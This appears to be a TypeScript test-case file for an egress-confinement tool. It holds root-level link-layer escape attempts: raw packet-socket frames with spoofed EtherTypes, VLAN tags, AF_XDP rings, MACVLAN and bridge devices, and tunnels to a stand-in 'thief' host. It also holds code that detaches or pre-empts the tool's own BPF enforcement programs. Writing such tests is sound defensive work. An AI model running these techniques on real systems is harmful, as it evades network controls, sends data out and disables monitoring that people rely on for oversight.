import type { Case } from '../case.ts'
import { python } from './script.ts'

const by = 'capability: no packet socket; the whole machine: link'
const twin = python('udp(WHERE4)')
const common = { as: ['root'], twin, by } as const

/** Says when a frame with the mark comes in, of whatever type: the records of the lab have IP only. */
const listens = python(`
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind(('to-runner', 0))
print('ready', file=sys.stderr, flush=True)
while True:
    frame, where = s.recvfrom(2048)
    if where[2] != 4 and DATA in frame: print('frame', T, frame[12:18].hex(), flush=True)`)

/** Sends a frame by a packet socket: what comes between the hardware addresses and the packet, and what the socket says that it is. */
const sends = (head: string, says = '0x800', device = 'to-internet', before = ''): string =>
  python(`
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
${before}
s.sendto(bytes.fromhex('020000000001020000000002') + ${head} + packet4(D4, datagram()), ('${device}', ${says}))`)

const ip = "b'\\x08\\0'"

/** A packet socket on a device that stands on the uplink: what it sends leaves by the uplink. */
const above = (id: string, technique: string, make: string, head = ip): Case => ({
  ...common,
  id,
  technique: `packet socket on ${technique}`,
  attempt: `ip link add zqd ${make} && ip link set zqd up && ${sends(head, '0x800', 'zqd')}
status=$?; ip link del zqd; exit $status`,
  internet: listens,
})

/** The kernels of the machines that build and test this project lack these devices; those of guests have them. */
const onlyInGuests = {
  cannot: 'the kernel of these machines has no such device',
  impossible: true,
} as const

const wrapped = (kind: string): Case => ({
  id: `tunnel-${kind}`,
  technique: `${kind} device to the thief, with an allowed destination inside`,
  as: ['root'],
  attempt: `ip link add zqt type ${kind} remote $D4 local 192.0.2.2 && ip addr add 192.0.2.161/28 dev zqt && ip link set zqt up &&
ip route add 11.19.78.0/24 dev zqt && $ACT udp-sendto 11.19.78.7 8080; sleep 0.3; ip link del zqt; exit 9`,
  twin,
  ...onlyInGuests,
  by: 'the whole machine: link',
  silent: 'no device was made',
  guests:
    'in a scope of `runwarden run` the outer packet is of no socket of the scope, and no layer sees it. To do: run the command with `--user`; a scope that is the whole machine',
})

/** AF_XDP (linux/if_xdp.h): memory for frames, the four rings, and one frame put into the ring for what leaves. */
const xdp = python(`
import struct as st
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
s = socket.socket(44, socket.SOCK_RAW, 0)
frames = mmap.mmap(-1, 4096 * 4)
frame = bytes.fromhex('020000000001020000000002') + ${ip} + packet4(D4, datagram())
frames[:len(frame)] = frame
at = ctypes.addressof(ctypes.c_char.from_buffer(frames))
s.setsockopt(283, 4, st.pack('QQIIII', at, 4096 * 4, 4096, 0, 0, 0))
for ring in (5, 6, 3): s.setsockopt(283, ring, st.pack('I', 4))
offsets = st.unpack('16Q', s.getsockopt(283, 1, 128))
producer, consumer, descriptors = offsets[4:7]
ring = libc.mmap(None, descriptors + 64, 3, 0x8001, s.fileno(), 0x80000000)
to = st.pack('HHIII', 44, 2, socket.if_nametoindex('to-internet'), 0, 0)
if libc.bind(s.fileno(), to, 16): raise OSError(ctypes.get_errno(), 'bind')
ctypes.memmove(ring + descriptors, st.pack('QII', 0, len(frame), 0), 16)
ctypes.memmove(ring + producer, st.pack('I', 1), 4)
if libc.sendto(s.fileno(), None, 0, 64, None, 0): raise OSError(ctypes.get_errno(), 'sendto')
time.sleep(0.3)`)

/** bpf(2): commands by their numbers, attributes as bytes. */
const bpf = `
libc = ctypes.CDLL(None, use_errno=True)
def bpf(command, attributes):
    fd = libc.syscall({'x86_64': 321, 'aarch64': 280}[os.uname().machine], command, attributes, len(attributes))
    if fd < 0: raise OSError(ctypes.get_errno(), 'bpf')
    return fd
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
frame = bytes.fromhex('020000000001020000000002') + ${ip} + packet4(D4, datagram())`

/** BPF_OBJ_GET and BPF_LINK_DETACH of tcx links by their names; before 6.6 there is clsact. */
const detached = python(`${bpf}
import glob, subprocess
agent = open(os.environ['SHARED'] + '/agent').read().strip()
if libc.setns(os.open('/proc/%s/ns/mnt' % agent, os.O_RDONLY), 0): raise OSError(ctypes.get_errno(), 'setns')
for path in glob.glob('/run/runwarden/scopes/*/bpf/uplinks/[0-9]*'):
    name = ctypes.create_string_buffer(path.encode())
    bpf(34, struct.pack('I', bpf(7, struct.pack('QII', ctypes.addressof(name), 0, 0))))
    print('detached', path)
    s.sendto(frame, ('to-internet', 0x800))
subprocess.run(['tc', 'qdisc', 'del', 'dev', 'to-internet', 'clsact'])
s.sendto(frame, ('to-internet', 0x800))`)

/** In front of ours: a program of two instructions that lets everything pass, by BPF_PROG_LOAD and BPF_LINK_CREATE. */
const before = python(`${bpf}
code = ctypes.create_string_buffer(bytes.fromhex('b700000000000000' '9500000000000000'))
license = ctypes.create_string_buffer(b'GPL')
program = bpf(5, struct.pack('IIQQIIQI', 3, 2, ctypes.addressof(code), ctypes.addressof(license), 0, 0, 0, 0))
link = bpf(28, struct.pack('IIIII', program, socket.if_nametoindex('to-internet'), 47, 8, 0) + bytes(12))
for _ in range(30):
    s.sendto(frame, ('to-internet', 0x800))
    time.sleep(0.1)`)

const takenOff =
  'where the whole machine is the scope, root can do it, and frames may go before the agent has mended it, a second at most. It is told as `agent-tampered` (critical). To do: no root for jobs; treat what leaves then as unconfined'

/** What leaves below IP: frames by hand, and devices that stand on the uplink. */
export const linkCases: readonly Case[] = [
  {
    ...common,
    id: 'packet-lying',
    technique: 'packet socket that says that it sends ARP',
    attempt: sends(ip, '0x806'),
  },
  {
    ...common,
    id: 'packet-vlan',
    technique: 'packet socket, frame with a VLAN tag',
    attempt: sends("b'\\x81\\0\\0\\5\\x08\\0'", '0x8100'),
    internet: listens,
  },
  {
    ...common,
    id: 'packet-two-tags',
    technique: 'packet socket, frame with three VLAN tags',
    attempt: sends("b'\\x88\\xa8\\0\\5\\x81\\0\\0\\6\\x81\\0\\0\\7\\x08\\0'", '0x88a8'),
    internet: listens,
  },
  {
    ...common,
    id: 'packet-other',
    technique: 'packet socket, type of frame that nobody has',
    attempt: sends("b'\\x88\\xb5'", '0x88b5'),
    internet: listens,
  },
  {
    ...common,
    id: 'packet-llc',
    technique: 'packet socket, IEEE 802.3 frame with a length for a type',
    attempt: sends("b'\\0\\x50\\xaa\\xaa\\3\\0\\0\\0\\x08\\0'", '4'),
    internet: listens,
  },
  {
    ...common,
    id: 'packet-arp',
    technique: 'data behind an ARP request',
    attempt: python(`
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
request = bytes.fromhex('0001080006040001' '020000000002' 'c0000202' '000000000000' 'c0000201')
s.sendto(bytes.fromhex('ffffffffffff0200000000020806') + request + DATA, ('to-internet', 0x806))`),
    internet: listens,
    guests:
      'where the whole machine is the scope, ARP has to pass, and what stands behind it or in it. It goes no further than the link: no router forwards it. To do: nobody of ill will on the same link',
  },
  {
    ...common,
    id: 'packet-bypass',
    technique:
      'packet socket that goes round the queue and what is attached to it (PACKET_QDISC_BYPASS)',
    attempt: sends(ip, '0x800', 'to-internet', 's.setsockopt(263, 20, 1)'),
  },
  {
    ...common,
    id: 'xdp-socket',
    technique: 'AF_XDP socket, which goes round the queue',
    attempt: xdp,
  },
  {
    ...above('packet-on-vlan', 'a VLAN device', 'link to-internet type vlan id 7'),
    ...onlyInGuests,
  },
  above('packet-on-macvlan', 'a MACVLAN device', 'link to-internet type macvlan mode bridge'),
  {
    ...above('packet-on-ipvlan', 'an IPVLAN device', 'link to-internet type ipvlan mode l2'),
    ...onlyInGuests,
  },
  {
    ...common,
    id: 'packet-in-namespace',
    technique:
      'packet socket on a MACVLAN device that was moved into a network namespace of its own',
    attempt: `ip netns add zqm && ip link add zqd link to-internet type macvlan mode bridge && ip link set zqd netns zqm && ip -n zqm link set zqd up
nsenter --net=/run/netns/zqm ${sends(ip, '0x800', 'zqd')}
status=$?; ip netns del zqm; exit $status`,
  },
  {
    ...common,
    id: 'packet-on-bridge',
    technique: 'packet socket on a bridge that the uplink was made a port of',
    alone: true,
    attempt: `ip link add zqb type bridge && ip link set zqb up && ip link set to-internet master zqb && sleep 0.2 && ${sends(ip, '0x800', 'zqb')}
status=$?; ip link del zqb; exit $status`,
  },
  ...['gre', 'ipip', 'sit'].map(wrapped),
  {
    ...common,
    id: 'link-detached',
    technique: 'link layer taken off the uplink, then a packet socket at once',
    alone: true,
    attempt: detached,
    guests: takenOff,
  },
  {
    ...common,
    id: 'link-before',
    technique: 'own program in front of the link layer’s (tcx, BPF_F_BEFORE), then a packet socket',
    alone: true,
    attempt: before,
    guests: takenOff,
  },
]
